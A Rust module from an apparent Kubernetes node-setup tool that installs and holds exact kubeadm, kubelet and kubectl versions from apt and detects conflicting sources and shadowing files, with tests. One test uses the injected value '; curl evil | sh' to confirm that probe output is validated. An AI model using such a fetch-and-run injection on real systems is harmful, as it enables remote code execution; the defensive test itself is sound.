//! Kubernetes' programs from its apt repository: one path a minor, a keyring of its own, exact versions, held.
//!
//! Packages that are there at another version are never touched. `kubernetes-cni` comes as a dependency and owns /opt/cni/bin.

use std::collections::BTreeMap;

use kubestead_core::fact::Gap;
use kubestead_core::name::Name;
use kubestead_core::plan::Held;
use kubestead_core::probe::{Answers, Section};
use kubestead_core::procedure::Procedure;
use kubestead_core::put::Owned;
use serde::{Deserialize, Serialize};

use super::repository::{self, DOCKER, KUBERNETES, Offer, Place};
use crate::apt_key::Fingerprint;
use crate::bundle::{BundleFile, Kind};

/// What is installed by name, and held.
pub(super) const NAMES: [&str; 3] = ["kubeadm", "kubelet", "kubectl"];
/// There while an installation of ours runs: only then may dpkg's interrupted work be finished without asking.
pub(super) const BEGUN: &str = "/var/lib/kubestead/packages-begun";
/// Files that a bundle installs and that would be used instead of the packages' own.
const HIDING: [&str; 5] = [
    "/usr/local/bin/kubeadm",
    "/usr/local/bin/kubelet",
    "/usr/local/bin/kubectl",
    "/etc/systemd/system/kubelet.service",
    "/etc/systemd/system/kubelet.service.d/10-kubeadm.conf",
];

/// Whether a file of a bundle is one that the packages bring themselves.
pub fn packaged(file: &BundleFile) -> bool {
    match file.kind {
        Kind::Binary => NAMES.contains(&file.name.as_str()),
        Kind::Cni => true, // of kubernetes-cni
        Kind::Image => false,
    }
}

/// The packages that a node shall have.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct Packages {
    /// Such as `1.37.1`.
    pub version: String,
    /// The repository's address without the minor, such as `https://pkgs.k8s.io/core:/stable:`.
    pub repository: String,
    /// Which key signs it.
    pub trust: Trust,
}

/// How the key is known that signs the repository.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub enum Trust {
    /// It is this one, armoured.
    Key(String),
    /// The repository offers it, and it has this fingerprint.
    Fingerprint(Fingerprint),
}

impl Packages {
    /// The repository of the version's minor.
    pub(super) fn address(&self) -> String {
        let minor = self.version.rsplit_once('.').map_or("", |(minor, _)| minor);
        format!("{}/v{minor}/deb", self.repository)
    }

    /// The lines of the source that say where.
    pub(super) fn lines(&self) -> String {
        format!("URIs: {}/\nSuites: /\n", self.address())
    }

    /// The keyring and the source of apt, when the key is at hand.
    pub(super) fn files(&self) -> Vec<Owned> {
        let Trust::Key(key) = &self.trust else { return Vec::new() };
        let source = format!("# Written by kubestead.\nTypes: deb\n{}Signed-By: {}\n", self.lines(), KUBERNETES.keyring);
        let owned = |path: &str, text: &str| Owned { path: path.to_owned(), text: text.to_owned(), mode: 0o644 };
        vec![owned(KUBERNETES.keyring, key), owned(KUBERNETES.source, &source)]
    }

    /// Whether a package's version is one of this version: `1.37.1-1.1` is one of 1.37.1.
    fn is(&self, version: &str) -> bool {
        version.strip_prefix(&self.version).is_some_and(|revision| revision.starts_with('-'))
    }
}

/// What apt and dpkg say.
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct AptFacts {
    /// The packages that are there, whole or not.
    pub packages: BTreeMap<String, Package>,
    /// Other files that name the same repository.
    pub rivals: Vec<String>,
    /// Files that would be used instead of the packages' own.
    pub hiding: Vec<String>,
    /// The repository of Kubernetes, when its key is known by its fingerprint.
    #[serde(default)]
    pub kubernetes: Option<Offer>,
    /// Docker's repository, when containerd may come from it.
    #[serde(default)]
    pub docker: Option<Offer>,
    /// Other files that name Docker's repository.
    #[serde(default)]
    pub docker_rivals: Vec<String>,
}

/// A package.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct Package {
    /// Such as `1.37.1-1.1`.
    pub version: String,
    /// Whether dpkg calls it installed; one that was cut off is not.
    pub whole: bool,
    /// Whether it is held.
    pub held: bool,
}

impl AptFacts {
    /// Whether all is installed and held.
    pub(super) fn done(&self, wanted: &Packages) -> bool {
        NAMES.iter().all(|name| self.packages.get(*name).is_some_and(|p| p.whole && p.held && wanted.is(&p.version)))
    }
}

/// The sections of the probe; `beside` are packages that are looked for too.
pub(super) fn sections(wanted: &Packages, beside: &[&str]) -> Vec<Section> {
    vec![
        Section::script("node/packages", include_str!("scripts/probe-packages.sh")).list("names", NAMES.iter().chain(beside)),
        rivals("node/rivals", &wanted.address(), KUBERNETES),
        Section::script("node/hiding", include_str!("scripts/probe-hiding.sh")).list("paths", HIDING),
    ]
}

/// The section that finds other files that name a repository.
pub(super) fn rivals(name: &str, uri: &str, place: Place) -> Section {
    Section::script(name, include_str!("scripts/probe-rivals.sh")).var("uri", uri).var("own", place.source)
}

/// Reads the answers.
pub(super) fn read(wanted: &Packages, with_runtime: bool, answers: &Answers) -> Result<AptFacts, Gap> {
    let lines = |name: &str| Ok(answers.text(name)?.lines().map(str::to_owned).collect());
    let mut packages = BTreeMap::new();
    for line in answers.text("node/packages")?.lines() {
        let [name, status, want, version] = line.split(' ').collect::<Vec<_>>()[..] else {
            return Err(Gap::new(format!("dpkg-query's answer was not understood: {line:?}")));
        };
        if !matches!(status, "not-installed" | "config-files") {
            packages.insert(name.to_owned(), Package { version: version.to_owned(), whole: status == "installed", held: want == "hold" });
        }
    }
    // They stand in a command that is shown: only what was asked for is taken.
    let hiding: Vec<String> = lines("node/hiding")?;
    if let Some(other) = hiding.iter().find(|file| !HIDING.contains(&file.as_str())) {
        return Err(Gap::new(format!("ls answered with a file that was not asked for: {other:?}")));
    }
    let by_print = matches!(wanted.trust, Trust::Fingerprint(_));
    let look = |place| repository::read(place, answers);
    Ok(AptFacts {
        packages,
        rivals: lines("node/rivals")?,
        hiding,
        kubernetes: by_print.then_some(KUBERNETES).map(look).transpose()?,
        docker: with_runtime.then_some(DOCKER).map(look).transpose()?,
        docker_rivals: if with_runtime { lines("node/docker-rivals")? } else { Vec::new() },
    })
}

/// Why packages are not installed on a node.
pub(super) fn obstacles(node: &Name, wanted: &Packages, facts: &AptFacts) -> Vec<Held> {
    let mut held = Vec::new();
    let own = facts.packages.iter().filter(|(name, _)| NAMES.contains(&name.as_str()));
    for (name, package) in own.filter(|(_, p)| !wanted.is(&p.version)) {
        let reason = format!("the package {name} is there in version {}, and the file asks for {}", package.version, wanted.version);
        let hint = "ask for that version in kubernetes.version, or take the package away: kubestead does not change a version yet";
        held.push(Held::on(node, name, reason, hint));
    }
    if !facts.hiding.is_empty() {
        let files = facts.hiding.join(" ");
        let reason = format!("from a bundle, and used instead of the packages' own: {files}");
        held.push(Held::on(node, "packages", reason, format!("rm {files}; systemctl daemon-reload")));
    }
    for file in &facts.rivals {
        let reason = format!("{file} names the repository {} too, and apt refuses a second keyring for it", wanted.address());
        held.push(Held::on(node, "packages", reason, format!("remove it from {file}")));
    }
    held
}

/// A package that is missing and that the repository does not have at the version.
pub(super) fn not_offered(node: &Name, wanted: &Packages, facts: &AptFacts, offer: &Offer) -> Option<Held> {
    if !offer.asked || offer.failure.is_some() {
        return None;
    }
    let none = Vec::new();
    let missing = NAMES.iter().filter(|name| !facts.packages.get(**name).is_some_and(|p| p.whole));
    let (name, all) = missing
        .map(|name| (name, offer.versions.get(*name).unwrap_or(&none)))
        .find(|(_, all)| !all.iter().any(|version| wanted.is(version)))?;
    let has = if all.is_empty() { "no version of it".to_owned() } else { all.join(" ") };
    let reason = format!("{name} {} is not in {}, which has: {has}", wanted.version, wanted.address());
    Some(Held::on(node, name, reason, "ask for one of these in kubernetes.version"))
}

/// Installs exactly that version and holds it. A run that was killed is taken up again.
pub(super) fn install(version: &str, address: &str) -> Procedure {
    Procedure::script(include_str!("scripts/packages.sh"))
        .after(include_str!("scripts/apt.sh"))
        .list("names", NAMES)
        .var("version", format!("{version}-"))
        .var("uri", format!("{address}/"))
        .var("source", KUBERNETES.source)
        .var("begun", BEGUN)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn wanted() -> Packages {
        Packages { version: "1.37.1".into(), repository: "https://pkgs.k8s.io/core:/stable:".into(), trust: Trust::Key("KEY\n".into()) }
    }

    fn facts(packages: &str) -> Result<AptFacts, Gap> {
        read(&wanted(), false, &Answers::from_pairs([("node/packages", 0, packages), ("node/rivals", 0, ""), ("node/hiding", 0, "")]))
    }

    #[test]
    fn each_minor_has_its_own_path_and_names_the_keyring() {
        let files = wanted().files();
        assert_eq!(files[0].text, "KEY\n");
        let source = "# Written by kubestead.\nTypes: deb\nURIs: https://pkgs.k8s.io/core:/stable:/v1.37/deb/\nSuites: /\n\
            Signed-By: /etc/apt/keyrings/kubestead-kubernetes.asc\n";
        assert_eq!(files[1].text, source);
        let next = Packages { version: "1.38.0".into(), ..wanted() };
        assert!(next.files()[1].text.contains("/v1.38/deb/\n"));
    }

    #[test]
    fn done_is_what_is_whole_and_held_at_the_version() {
        let line = |name: &str, rest: &str| format!("{name} {rest}\n");
        let all = |rest: &str| NAMES.map(|n| line(n, rest)).concat();
        assert!(facts(&all("installed hold 1.37.1-1.1")).unwrap().done(&wanted()));
        for rest in
            ["installed install 1.37.1-1.1", "half-configured hold 1.37.1-1.1", "installed hold 1.37.10-1.1", "not-installed unknown "]
        {
            assert!(!facts(&all(rest)).unwrap().done(&wanted()), "{rest}");
        }
        assert!(!facts("").unwrap().done(&wanted()));
        assert!(facts("kubeadm installed\n").is_err());
    }

    #[test]
    fn another_version_a_rival_and_what_hides_hold_the_node() {
        let node = Name::new("kube1").unwrap();
        let mut found =
            facts("kubelet installed hold 1.36.2-1.1\nkubectl unpacked install 1.37.1-1.1\nkubeadm config-files deinstall 1.35.0-1.1\n")
                .unwrap();
        let held = obstacles(&node, &wanted(), &found);
        assert_eq!(held.len(), 1, "{held:?}");
        assert!(held[0].object == "kube1/kubelet" && held[0].reason.contains("1.36.2-1.1"));
        found.packages.clear();
        assert!(obstacles(&node, &wanted(), &found).is_empty());
        found.rivals.push("/etc/apt/sources.list.d/k8s.list".into());
        found.hiding.push("/usr/local/bin/kubelet".into());
        let none = [("node/packages", 0, ""), ("node/rivals", 0, "")];
        for (said, good) in [("/usr/local/bin/kubelet\n", true), ("/usr/local/bin/kubelet; curl evil | sh\n", false)] {
            assert_eq!(
                read(&wanted(), false, &Answers::from_pairs(none.into_iter().chain([("node/hiding", 0, said)]))).is_ok(),
                good,
                "{said}"
            );
        }
        let text: String = obstacles(&node, &wanted(), &found).iter().map(|h| format!("{} {}\n", h.reason, h.hint)).collect();
        assert!(text.contains("k8s.list") && text.contains("rm /usr/local/bin/kubelet"), "{text}");
    }

    /// The real script with an apt and a dpkg that answer from files: `installed` is what dpkg tells, `simulated` what apt would do.
    fn install_on(root: &std::path::Path, installed: &str, simulated: &str) -> (Option<i32>, String) {
        use std::os::unix::fs::PermissionsExt as _;
        let write = |path: &str, text: &str| {
            let path = root.join(path);
            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
            std::fs::write(&path, text).unwrap();
            std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o755)).unwrap();
        };
        write("installed", installed);
        write("simulated", simulated);
        write("bin/dpkg-query", "#!/bin/bash\ncat \"${0%/*}/../installed\"\n");
        write(
            "bin/apt-get",
            "#!/bin/bash\nr=${0%/*}/..; echo \"$*\" >> $r/asked\ncase \" $* \" in\n*' -s '*) cat $r/simulated ;;\n\
             *' install '*) printf '%s installed hold 1.37.1-1.1\\n' kubeadm kubelet kubectl > $r/installed ;;\nesac\n",
        );
        write("bin/apt-cache", "#!/bin/bash\necho \"$2 | 1.37.1-1.1 | https://pkgs.k8s.io/core:/stable:/v1.37/deb  Packages\"\n");
        write("bin/apt-mark", "#!/bin/bash\necho \"mark $*\" >> \"${0%/*}/../asked\"\n");
        let script = install("1.37.1", &wanted().address()).command().script().into_owned();
        let script = ["/run/kubestead.act", BEGUN]
            .iter()
            .fold(script, |script, path| script.replace(path, &format!("{}/{}", root.display(), path.rsplit_once('/').unwrap().1)))
            .replace("PATH=/usr/local/sbin:", &format!("PATH={}/bin:/usr/local/sbin:", root.display()));
        let out = std::process::Command::new("bash").args(["-c", &script]).output().unwrap();
        (out.status.code(), String::from_utf8_lossy(&out.stderr).into_owned())
    }

    #[test]
    fn packages_come_and_are_held_and_what_is_there_stays_as_it_is() {
        let asked = |root: &std::path::Path| std::fs::read_to_string(root.join("asked")).unwrap_or_default();
        let fresh = "Inst kubelet (1.37.1-1.1 x [amd64])\nInst conntrack (1:1.4 Debian:12 [amd64])\nConf kubelet (1.37.1-1.1 x)\n";
        let root = tempfile::tempdir().unwrap();
        let (status, said) = install_on(root.path(), "", fresh);
        assert_eq!(status, Some(0), "{said}");
        let text = asked(root.path());
        assert!(
            text.contains("install kubeadm=1.37.1-1.1 kubelet=1.37.1-1.1 kubectl=1.37.1-1.1\nmark hold kubeadm kubelet kubectl"),
            "{text}"
        );
        assert!(text.contains("--no-remove") && text.contains("--force-confold") && !root.path().join("packages-begun").exists(), "{text}");
        // A dependency that is there in another version, perhaps held, is not changed.
        let root = tempfile::tempdir().unwrap();
        let (status, said) = install_on(root.path(), "", &format!("{fresh}Inst kubernetes-cni [1.2.0-1.1] (1.8.0-1.1 x [amd64])\n"));
        assert!(status == Some(90) && said.contains("kubernetes-cni"), "{said}");
        assert!(asked(root.path()).lines().all(|l| l.contains(" -s ") || !l.contains("install")), "{}", asked(root.path()));
        // Another version of the programs is refused before apt is asked for anything.
        let root = tempfile::tempdir().unwrap();
        let (status, said) = install_on(root.path(), "kubelet installed hold 1.36.2-1.1\n", fresh);
        assert!(status == Some(90) && said.contains("kubelet 1.36.2-1.1") && asked(root.path()).is_empty(), "{said}");
    }

    /// The real sections over a folder.
    #[test]
    fn the_look_finds_packages_rivals_and_what_hides() {
        use std::os::unix::fs::PermissionsExt as _;
        let root = tempfile::tempdir().unwrap();
        let write = |path: &str, text: &str| {
            let path = root.path().join(path);
            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
            std::fs::write(&path, text).unwrap();
            std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o755)).unwrap();
        };
        let place = root.path().display().to_string();
        let look = || {
            let script = kubestead_core::probe::command(&sections(&wanted(), &[]), "n1").script().into_owned();
            let script = ["/etc/apt", "/etc/systemd", "/usr/local/bin"]
                .iter()
                .fold(script, |script, path| script.replace(path, &format!("{place}{path}")));
            let out = std::process::Command::new("bash").args(["-c", &format!("PATH={place}/bin:$PATH\n{script}")]).output().unwrap();
            kubestead_core::probe::parse(&out.stdout, "n1").unwrap()
        };
        // dpkg-query ends with 1 when it does not know one of them.
        write(
            "bin/dpkg-query",
            "#!/bin/bash\n[ \"${*: -3}\" = 'kubeadm kubelet kubectl' ] && echo 'kubelet installed hold 1.37.1-1.1'\nexit 1\n",
        );
        let found = read(&wanted(), false, &look()).unwrap();
        assert!(found.packages["kubelet"].held && found.rivals.is_empty() && found.hiding.is_empty(), "{found:?}");
        let line = "deb https://pkgs.k8s.io/core:/stable:/v1.37/deb/ /\n";
        write("etc/apt/sources.list", line);
        for (name, text) in [("a.list", format!("  # {line}")), ("it's b.sources", line.into()), ("c.list", line.replace("37", "36"))] {
            write(&format!("etc/apt/sources.list.d/{name}"), &text);
        }
        write(KUBERNETES.source.trim_start_matches('/'), line);
        write("usr/local/bin/kubelet", "");
        let answers = look();
        let told = |section: &str| answers.text(section).unwrap().replace(&place, "");
        assert_eq!(told("node/rivals"), "/etc/apt/sources.list\n/etc/apt/sources.list.d/it's b.sources\n");
        assert_eq!(told("node/hiding"), "/usr/local/bin/kubelet\n");
    }

    #[test]
    fn the_scripts_are_ones_that_bash_can_read() {
        let script = install("1.37.1", &wanted().address()).command().script().into_owned();
        for text in sections(&wanted(), &[]).into_iter().map(|s| s.script).chain([script]) {
            let status = std::process::Command::new("bash").args(["-n", "-c", &text]).status().unwrap();
            assert!(status.success(), "{text}");
        }
    }
}
